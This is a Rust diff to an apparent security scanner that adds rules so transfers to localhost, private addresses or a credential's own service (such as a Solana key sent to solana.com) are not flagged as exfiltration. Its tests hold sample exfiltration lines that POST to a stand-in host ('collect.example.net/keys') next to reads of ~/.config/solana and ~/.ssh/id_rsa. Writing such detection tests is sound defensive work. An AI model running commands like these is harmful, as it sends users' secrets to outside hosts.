@@ -739,8 +739,75 @@ fn scripts_pair<'a>(
 
 fn is_sink(f: &Finding) -> bool {
     // SK454 already joins a secret to its sink: counting it as a sink again would double it.
+    // A transfer to the operator's own machine (`scp f user@hostname:`, localhost, a private
+    // address) sends nothing out.
     f.kill_chain == KillChainStage::Exfiltration
         && !["SK450", "SK451", "SK454"].contains(&f.code.as_str())
+        && !sink_host(f).is_some_and(|h| is_operators_own(&h))
+}
+
+static SINK_URL_HOST: LazyLock<Regex> = LazyLock::new(|| {
+    crate::pattern::compile(r"(?i)\b(?:https?|wss?|ftp)://(?:[^/@\s'\x22]*@)?([a-z0-9.\-\[\]:]+?)(?::\d+)?(?:[/'\x22\s?#]|$)")
+        .expect("valid regex")
+});
+static SINK_SSH_HOST: LazyLock<Regex> = LazyLock::new(|| {
+    crate::pattern::compile(r"(?i)\b(?:scp|rsync|sftp|ssh)\b[^\n]*?\s[\w.-]+@([a-z0-9.\-]+):")
+        .expect("valid regex")
+});
+
+/// The host a sink sends to, when its line names one literally.
+fn sink_host(f: &Finding) -> Option<String> {
+    [f.snippet.as_deref(), f.evidence.as_deref()]
+        .into_iter()
+        .flatten()
+        .find_map(|text| {
+            SINK_URL_HOST
+                .captures(text)
+                .or_else(|| SINK_SSH_HOST.captures(text))
+                .and_then(|c| c.get(1))
+                .map(|m| m.as_str().to_ascii_lowercase())
+        })
+}
+
+/// Whether a host is off the public internet: a placeholder or machine name without a dot,
+/// `localhost`, a loopback or private address.
+fn is_operators_own(host: &str) -> bool {
+    let host = host.trim_matches(['[', ']']).trim_end_matches('.');
+    if host.is_empty() || host.starts_with('$') {
+        return false;
+    }
+    if let Ok(ip) = host.parse::<std::net::IpAddr>() {
+        return match ip {
+            std::net::IpAddr::V4(v4) => {
+                v4.is_loopback() || v4.is_private() || v4.is_link_local() || v4.is_unspecified()
+            }
+            std::net::IpAddr::V6(v6) => v6.is_loopback() || v6.is_unspecified(),
+        };
+    }
+    !host.contains('.')
+        || host == "localhost"
+        || host.ends_with(".localhost")
+        || host.ends_with(".local")
+        || host.ends_with(".internal")
+}
+
+/// Whether every sink in `file` with a literal host sends to the service `source`'s credential
+/// belongs to (`~/.config/solana/…` to `*.solana.com`, `$SLACK_TOKEN` to `slack.com`), and there
+/// is at least one: the credential goes where it is used (`skillgate_model::party`).
+fn sent_to_own_service(source: &Finding, sinks: &[Finding]) -> bool {
+    let Some(credential) = source.evidence.as_deref() else {
+        return false;
+    };
+    let in_file: Vec<Option<String>> = sinks
+        .iter()
+        .filter(|k| k.file == source.file)
+        .map(sink_host)
+        .collect();
+    !in_file.is_empty()
+        && in_file.iter().all(|h| {
+            h.as_deref()
+                .is_some_and(|h| skillgate_model::party::sent_to_own_service(credential, h))
+        })
 }
 
 pub fn check(units: &[Unit], out: &mut Vec<Finding>) {
@@ -757,6 +824,7 @@ pub fn check(units: &[Unit], out: &mut Vec<Finding>) {
             let sources: Vec<Finding> = out
                 .iter()
                 .filter(|f| f.capability == Some(cap) && f.severity >= Severity::Medium)
+                .filter(|f| !sent_to_own_service(f, &sinks))
                 .cloned()
                 .collect();
             let Some(source) = sources.first() else {
@@ -1040,6 +1108,51 @@ mod tests {
         assert!(found(&dropper).is_some());
         let unrelated = format!("{many}curl -o /tmp/other https://h.example/t\n");
         assert!(found(&unrelated).is_none());
+    }
+
+    #[test]
+    fn transfers_to_the_operators_own_machine_or_the_credentials_own_service_are_not_theft() {
+        let sink = |snippet: &str| {
+            let mut f = Finding::new(
+                "SK208",
+                skillgate_model::Gate::G1,
+                Severity::Low,
+                Confidence::High,
+                "n",
+                "m",
+            )
+            .with_stage(KillChainStage::Exfiltration)
+            .with_capability(Capability::NetEgress)
+            .at("SKILL.md", Some(9), None);
+            f.snippet = Some(snippet.to_string());
+            f
+        };
+        assert!(!is_sink(&sink("scp file.txt user@hostname:/path/")));
+        assert!(!is_sink(&sink("curl -X POST http://localhost:8080/api")));
+        assert!(!is_sink(&sink("curl -X POST http://192.168.1.20/api")));
+        assert!(is_sink(&sink("curl -X POST https://collect.example.net/u")));
+        assert!(is_sink(&sink("curl -X POST \"$URL\"")));
+        let source = Finding::new(
+            "SK401",
+            skillgate_model::Gate::G1,
+            Severity::Medium,
+            Confidence::High,
+            "c",
+            "m",
+        )
+        .with_capability(Capability::SecretRead)
+        .with_evidence("~/.config/solana")
+        .at("SKILL.md", Some(3), None);
+        let own = [sink("curl -s -X POST https://api.mainnet-beta.solana.com")];
+        assert!(sent_to_own_service(&source, &own));
+        let elsewhere = [sink("curl -s -X POST https://collect.example.net/keys")];
+        assert!(!sent_to_own_service(&source, &elsewhere));
+        let ssh = source.clone().with_evidence("~/.ssh/id_rsa");
+        let ssh_host = [sink("curl -X POST https://ssh.solana.com/x")];
+        assert!(
+            !sent_to_own_service(&ssh, &ssh_host),
+            "a personal key belongs to no service"
+        );
     }
 
     #[test]
